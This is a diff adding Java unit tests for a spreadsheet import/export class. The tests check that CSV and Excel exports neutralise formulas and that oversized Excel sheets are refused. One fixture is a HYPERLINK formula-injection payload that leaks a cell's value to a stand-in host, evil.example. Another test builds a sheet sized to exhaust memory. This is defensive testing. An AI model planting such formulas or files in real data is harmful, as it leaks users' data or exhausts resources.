@@ -68,6 +68,81 @@ class TableReaderTest {
         assertThat(new ImportProblem(5, "", "trùng dòng 3")).hasToString("Dòng 5: trùng dòng 3");
     }
 
+    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Thôn Trà Phương\")";
+
+    @Test
+    void a_csv_export_turns_a_formula_into_text_with_a_leading_apostrophe_and_keeps_negative_numbers() throws Exception {
+        byte[] csv = TableWriter.csv(COLUMNS, List.of(List.of(HYPERLINK, "-3", "+84912345678"), List.of("@SUM(A1)", "\tx", "-1+2")));
+        List<String> lines = new String(csv, StandardCharsets.UTF_8).lines().toList();
+
+        assertThat(lines.get(1)).startsWith("\"'=HYPERLINK(").contains(",-3,'+84912345678");
+        assertThat(lines.get(2)).startsWith("'@SUM(A1),").endsWith(",'-1+2");
+        assertThat(TableReader.read("x.csv", csv, COLUMNS).rows().getFirst().get(NAME))
+                .as("read back as it was, for the import's checks to refuse").isEqualTo(HYPERLINK);
+    }
+
+    @Test
+    void an_excel_export_keeps_a_formula_like_name_as_a_string_cell() throws Exception {
+        byte[] xlsx = TableWriter.xlsx("ho", COLUMNS, List.of(List.of(HYPERLINK, "1956", "")));
+
+        try (var book = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
+            var cell = book.getSheetAt(0).getRow(1).getCell(0);
+            assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+            assertThat(cell.getStringCellValue()).isEqualTo(HYPERLINK);
+        }
+    }
+
+    @Test
+    void an_excel_file_with_a_cell_in_column_xfd_on_every_row_is_refused_as_it_is_read() throws Exception {
+        byte[] xlsx = sheet(TableReader.MAX_ROWS, 16_383);
+        assertThat(xlsx.length).as("a small file").isLessThan(TableReader.MAX_BYTES);
+
+        long before = usedHeap();
+        String refusal = refusal("ho.xlsx", xlsx);
+
+        assertThat(refusal).isEqualTo("Dòng 2, cột 'XFD': tệp chỉ được có tối đa 50 cột (đến cột AX). Hãy xoá các cột thừa.");
+        assertThat(usedHeap() - before).as("no table of billions of cells").isLessThan(200L * 1024 * 1024);
+    }
+
+    @Test
+    void an_excel_file_with_more_rows_than_the_limit_is_refused_and_one_at_the_limit_is_read() throws Exception {
+        assertThat(refusal("ho.xlsx", sheet(TableReader.MAX_ROWS + 1, 1))).contains("quá nhiều dòng", "100000");
+        assertThat(TableReader.read("ho.xlsx", sheet(TableReader.MAX_ROWS, 1), COLUMNS).rows()).hasSize(TableReader.MAX_ROWS);
+    }
+
+    @Test
+    void a_csv_with_a_cell_beyond_column_fifty_is_refused_naming_the_row_and_column() {
+        String far = ",".repeat(60) + "x";
+
+        assertThat(refusal("ho.csv", ("Họ và tên,Năm sinh\nAn,1956\nBa,1957" + far + "\n").getBytes(StandardCharsets.UTF_8)))
+                .isEqualTo("Dòng 3, cột 'BJ': tệp chỉ được có tối đa 50 cột (đến cột AX). Hãy xoá các cột thừa.");
+    }
+
+    /** A header row, then {@code rows} rows each with a name and a year and a cell "x" in the given column. */
+    private static byte[] sheet(int rows, int column) throws Exception {
+        try (var book = new org.apache.poi.xssf.streaming.SXSSFWorkbook(100); var out = new java.io.ByteArrayOutputStream()) {
+            var sheet = book.createSheet("ho");
+            var header = sheet.createRow(0);
+            header.createCell(0).setCellValue("Họ và tên");
+            header.createCell(1).setCellValue("Năm sinh");
+            for (int r = 1; r <= rows; r++) {
+                var row = sheet.createRow(r);
+                row.createCell(0).setCellValue("An");
+                row.createCell(1).setCellValue("1956");
+                if (column > 1) {
+                    row.createCell(column).setCellValue("x");
+                }
+            }
+            book.write(out);
+            return out.toByteArray();
+        }
+    }
+
+    private static long usedHeap() {
+        Runtime runtime = Runtime.getRuntime();
+        return runtime.totalMemory() - runtime.freeMemory();
+    }
+
     private static String refusal(String name, byte[] bytes) {
         TableException e = catchThrowableOfType(TableException.class, () -> TableReader.read(name, bytes, COLUMNS));
         assertThat(e).as("refused").isNotNull();
